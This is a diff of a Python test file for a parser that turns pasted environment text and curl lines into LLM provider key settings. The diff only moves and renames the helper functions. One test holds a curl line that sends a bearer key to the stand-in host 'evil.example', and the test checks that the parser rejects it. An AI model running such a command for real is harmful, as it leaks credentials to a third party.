@@ -12,17 +12,9 @@ from providers.spec.kind import ProviderSpec
 from providers.spec.secret import Secret
 from routing.config.entries import env_name
 from routing.config.envfile import env_text
-from routing.config.pasted import Ignored, Pasted, read_pasted
+from routing.config.pasted import Ignored, read_pasted
 from routing.config.pasted.lines import read_lines
-
-
-def read(text: str, kind: str = "") -> Pasted:
-    return read_pasted(text.encode(), specs=KINDS, kind=kind)
-
-
-def codes(pasted: Pasted) -> dict[str, str]:
-    return {ignored.path: ignored.code for ignored in pasted.ignored}
-
+from tests.routing.config.pasting import read, told
 
 # --- which of them --------------------------------------------------------------------------
 
@@ -124,7 +116,7 @@ def test_both_zhipu_names_are_read(name: str) -> None:
 def test_two_names_of_one_key_with_two_values_are_told() -> None:
     pasted = read("ZAI_API_KEY=a\nZHIPUAI_API_KEY=b\n")
     assert pasted.document == {"providers": {"zhipu": {"apiKey": "a"}}}
-    assert codes(pasted) == {"ZHIPUAI_API_KEY": "outranked"}
+    assert told(pasted) == {"ZHIPUAI_API_KEY": "outranked"}
 
 
 def test_cloud_names_fill_bedrock_and_its_secrets_stay_beside_the_document() -> None:
@@ -169,7 +161,7 @@ def test_names_that_are_not_ours_are_named_with_the_reason() -> None:
         "GROQ_API_KEY='never closed\n"
     )
     assert pasted.document == {}
-    assert codes(pasted) == {
+    assert told(pasted) == {
         "line 4": "bad_line",
         "line 5": "open_quote",
         "PATH": "unknown_name",
@@ -219,7 +211,7 @@ def test_a_key_that_many_vendors_could_have_made_asks_whose_it_is() -> None:
     pasted = read("sk-abcdef")
     assert pasted.document == {}
     assert set(pasted.candidates) == {"openai", "deepseek", "dashscope", "moonshot"}
-    assert codes(pasted) == {"key": "ambiguous_key"}
+    assert told(pasted) == {"key": "ambiguous_key"}
     assert read("sk-abcdef", "deepseek").document == {
         "providers": {"deepseek": {"apiKey": "sk-abcdef"}}
     }
@@ -321,10 +313,10 @@ def test_a_curl_line_for_azure_names_its_deployment() -> None:
 def test_a_curl_line_without_a_real_key_gives_the_address_only(header: str, code: str) -> None:
     pasted = read(f"curl https://api.openai.com/v1/models -H '{header}'")
     assert pasted.document == {"providers": {"openai": {"apiBase": "https://api.openai.com/v1"}}}
-    assert codes(pasted) == {"key": code}
+    assert told(pasted) == {"key": code}
 
 
 def test_a_known_key_on_its_way_to_a_strange_host_is_not_taken() -> None:
     pasted = read("curl https://evil.example/v1 -H 'Authorization: Bearer sk-or-v1-1'")
     assert pasted.document == {}
-    assert codes(pasted) == {"evil.example": "unknown_host"}
+    assert told(pasted) == {"evil.example": "unknown_host"}
